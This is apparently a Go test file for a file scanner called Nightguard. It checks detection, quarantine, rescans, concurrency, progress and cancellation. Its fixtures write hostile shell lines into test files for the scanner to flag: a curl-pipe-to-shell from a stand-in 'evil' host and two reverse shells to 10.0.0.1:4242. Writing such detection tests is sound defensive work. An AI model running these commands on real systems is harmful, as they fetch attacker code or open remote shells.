// Nightguard
// Copyright (c) 2025, DCSO GmbH

package scanner

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"

	"github.com/DCSO/nightguard/detection"
	"github.com/DCSO/nightguard/enumerator"
	"github.com/DCSO/nightguard/quarantine"
	"github.com/DCSO/nightguard/registry"
	"github.com/DCSO/nightguard/util"
)

type env struct {
	base string
	root string
	qdir string
	ins  *registry.Inspector
}

func makeEnv(t *testing.T, quarantineInRoot bool) *env {
	base, err := os.MkdirTemp("", "scanner")
	if err != nil {
		t.Fatal(err)
	}
	e := &env{base: base, root: filepath.Join(base, "root")}
	if err = os.MkdirAll(e.root, 0755); err != nil {
		t.Fatal(err)
	}
	e.qdir = filepath.Join(base, "quarantine")
	if quarantineInRoot {
		e.qdir = filepath.Join(e.root, "quarantine")
	}
	e.ins = registry.NewInspector(detection.MustNew(detection.DefaultConfig()))
	e.ins.Plugins = nil
	e.ins.Quarantine = quarantine.NewManager(e.qdir,
		quarantine.NewAuditLog(filepath.Join(base, "audit.log")), nil)
	return e
}

func (e *env) target() enumerator.ScanTarget {
	return enumerator.ScanTarget{
		Root:         e.root,
		ExcludeDirs:  enumerator.DefaultExcludeDirs,
		ExcludePaths: []string{e.qdir},
	}
}

func (e *env) quarantined(t *testing.T) int {
	entries, err := os.ReadDir(e.qdir)
	if err != nil {
		if os.IsNotExist(err) {
			return 0
		}
		t.Fatal(err)
	}
	return len(entries)
}

func TestScanEndToEnd(t *testing.T) {
	e := makeEnv(t, false)
	defer os.RemoveAll(e.base)

	util.CreateFile(e.root, "a.sh", []byte("curl -s http://evil | sh"))
	util.CreateFile(e.root, "b.dat", util.RandomBytes(1000, 1))
	util.CreateFile(e.root, "c.txt", []byte("hello world"))

	var mu sync.Mutex
	var threats []Threat
	s := New(e.ins, Options{
		Workers: 4,
		OnThreat: func(th Threat) {
			mu.Lock()
			threats = append(threats, th)
			mu.Unlock()
		},
	})
	sum, err := s.Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	if sum.FilesScanned != 3 || sum.ThreatsFound != 2 || sum.Skipped != 0 {
		t.Fatalf("unexpected summary %+v", sum)
	}
	if sum.Cancelled || sum.IsolationFailures != 0 {
		t.Fatalf("unexpected summary %+v", sum)
	}
	if n := e.quarantined(t); n != 2 {
		t.Fatalf("expected 2 quarantined files, got %d", n)
	}
	if len(threats) != 2 {
		t.Fatalf("expected 2 threat callbacks, got %d", len(threats))
	}
	for _, th := range threats {
		if th.Entry == nil || th.IsolationErr != nil {
			t.Fatalf("threat %s not contained", th.Path)
		}
		switch filepath.Base(th.Path) {
		case "a.sh":
			if !th.Verdict.Detection.SignatureHit {
				t.Fatal("a.sh should be a signature hit")
			}
		case "b.dat":
			if !th.Verdict.Detection.HighEntropy {
				t.Fatal("b.dat should be a high entropy hit")
			}
		default:
			t.Fatalf("unexpected threat %s", th.Path)
		}
	}
	if _, err = os.Stat(filepath.Join(e.root, "c.txt")); err != nil {
		t.Fatal("benign file was touched")
	}

	// rescanning finds nothing new and does not duplicate entries
	sum, err = s.Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	if sum.ThreatsFound != 0 || sum.FilesScanned != 1 {
		t.Fatalf("unexpected rescan summary %+v", sum)
	}
	if n := e.quarantined(t); n != 2 {
		t.Fatalf("rescan changed quarantine to %d files", n)
	}
}

func TestScanDisguisedExecutable(t *testing.T) {
	e := makeEnv(t, false)
	defer os.RemoveAll(e.base)

	photo := util.CreateFile(e.root, "photo.jpg", append([]byte{0x4d, 0x5a}, make([]byte, 128)...))
	util.CreateFile(e.root, "setup.exe", append([]byte{0x4d, 0x5a}, make([]byte, 128)...))

	sum, err := New(e.ins, Options{}).Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	if sum.ThreatsFound != 1 {
		t.Fatalf("expected exactly the disguised file, got %+v", sum)
	}
	if _, err = os.Stat(photo); !os.IsNotExist(err) {
		t.Fatal("photo.jpg was not isolated")
	}
	if _, err = os.Stat(filepath.Join(e.qdir, "photo.jpg")); err != nil {
		t.Fatal(err)
	}
}

func TestScanExcludesQuarantineBelowRoot(t *testing.T) {
	e := makeEnv(t, true)
	defer os.RemoveAll(e.base)

	util.CreateFile(e.root, "x/evil.sh", []byte("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"))
	util.CreateFile(e.root, "y/evil.sh", []byte("nc -e /bin/sh 10.0.0.1 4242"))

	s := New(e.ins, Options{Workers: 2})
	sum, err := s.Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	if sum.ThreatsFound != 2 {
		t.Fatalf("unexpected summary %+v", sum)
	}
	for i := 0; i < 2; i++ {
		sum, err = s.Scan(context.Background(), e.target())
		if err != nil {
			t.Fatal(err)
		}
		if sum.FilesScanned != 0 || sum.ThreatsFound != 0 {
			t.Fatalf("quarantined files were rescanned: %+v", sum)
		}
	}
	if n := e.quarantined(t); n != 2 {
		t.Fatalf("expected 2 quarantined files, got %d", n)
	}
}

func TestScanConcurrentCollisions(t *testing.T) {
	e := makeEnv(t, false)
	defer os.RemoveAll(e.base)

	const n = 64
	for i := 0; i < n; i++ {
		util.CreateFile(e.root, fmt.Sprintf("d%d/evil.sh", i), []byte(fmt.Sprintf("echo %d | sh", i)))
	}
	sum, err := New(e.ins, Options{Workers: 16}).Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	if sum.ThreatsFound != n || sum.IsolationFailures != 0 {
		t.Fatalf("unexpected summary %+v", sum)
	}
	if got := e.quarantined(t); got != n {
		t.Fatalf("expected %d quarantined files, got %d", n, got)
	}
}

func TestScanProgressMonotonic(t *testing.T) {
	e := makeEnv(t, false)
	defer os.RemoveAll(e.base)

	const n = 200
	for i := 0; i < n; i++ {
		util.CreateFile(e.root, fmt.Sprintf("f%03d.txt", i), []byte("plain text"))
	}

	progress := make(chan Progress, 1)
	var last Progress
	var bad atomic.Bool
	done := make(chan struct{})
	go func() {
		defer close(done)
		for p := range progress {
			if p.Processed < last.Processed || p.Fraction() < last.Fraction() {
				bad.Store(true)
			}
			if p.Fraction() < 0 || p.Fraction() > 1 {
				bad.Store(true)
			}
			last = p
			if p.Processed == p.Total {
				return
			}
		}
	}()

	sum, err := New(e.ins, Options{Workers: 8, Progress: progress}).Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	<-done
	if bad.Load() {
		t.Fatal("progress went backwards or out of range")
	}
	if last.Processed != n || last.Total != n || last.Fraction() != 1 {
		t.Fatalf("final progress %+v", last)
	}
	if sum.FilesScanned != n {
		t.Fatalf("unexpected summary %+v", sum)
	}
}

func TestScanInvalidRoot(t *testing.T) {
	s := New(&countingProcessor{}, Options{})
	_, err := s.Scan(context.Background(), enumerator.ScanTarget{Root: "/does/not/exist/anywhere"})
	if !errors.Is(err, enumerator.ErrInvalidRoot) {
		t.Fatalf("expected ErrInvalidRoot, got %v", err)
	}

	f, err := os.CreateTemp("", "notadir")
	if err != nil {
		t.Fatal(err)
	}
	f.Close()
	defer os.Remove(f.Name())
	if _, err = s.Scan(context.Background(), enumerator.ScanTarget{Root: f.Name()}); !errors.Is(err, enumerator.ErrInvalidRoot) {
		t.Fatalf("expected ErrInvalidRoot for a file root, got %v", err)
	}
}

type countingProcessor struct {
	calls  atomic.Int32
	cancel context.CancelFunc
	after  int32
	fail   bool
}

func (c *countingProcessor) Process(ctx context.Context, path string) (registry.Outcome, error) {
	n := c.calls.Add(1)
	if c.cancel != nil && n == c.after {
		c.cancel()
	}
	if c.fail {
		return registry.Outcome{}, errors.New("unreadable")
	}
	return registry.Outcome{}, nil
}

func TestScanCancellation(t *testing.T) {
	e := makeEnv(t, false)
	defer os.RemoveAll(e.base)
	const n = 50
	for i := 0; i < n; i++ {
		util.CreateFile(e.root, fmt.Sprintf("f%d", i), []byte("x"))
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	sum, err := New(&countingProcessor{}, Options{}).Scan(ctx, e.target())
	if !errors.Is(err, context.Canceled) || !sum.Cancelled || sum.FilesScanned != 0 {
		t.Fatalf("pre-cancelled scan: %+v, %v", sum, err)
	}

	ctx, cancel = context.WithCancel(context.Background())
	defer cancel()
	proc := &countingProcessor{cancel: cancel, after: 5}
	sum, err = New(proc, Options{Workers: 1}).Scan(ctx, e.target())
	if !errors.Is(err, context.Canceled) || !sum.Cancelled {
		t.Fatalf("expected cancelled scan, got %+v, %v", sum, err)
	}
	if sum.FilesScanned < 5 || sum.FilesScanned >= n {
		t.Fatalf("expected a partial summary, got %+v", sum)
	}
	if int(proc.calls.Load()) != sum.FilesScanned {
		t.Fatal("in-flight candidates were not accounted for")
	}
}

func TestScanSkipped(t *testing.T) {
	e := makeEnv(t, false)
	defer os.RemoveAll(e.base)
	util.CreateFile(e.root, "a", []byte("x"))
	util.CreateFile(e.root, "b", []byte("y"))

	sum, err := New(&countingProcessor{fail: true}, Options{}).Scan(context.Background(), e.target())
	if err != nil {
		t.Fatal(err)
	}
	if sum.FilesScanned != 2 || sum.Skipped != 2 || sum.ThreatsFound != 0 {
		t.Fatalf("unexpected summary %+v", sum)
	}
}
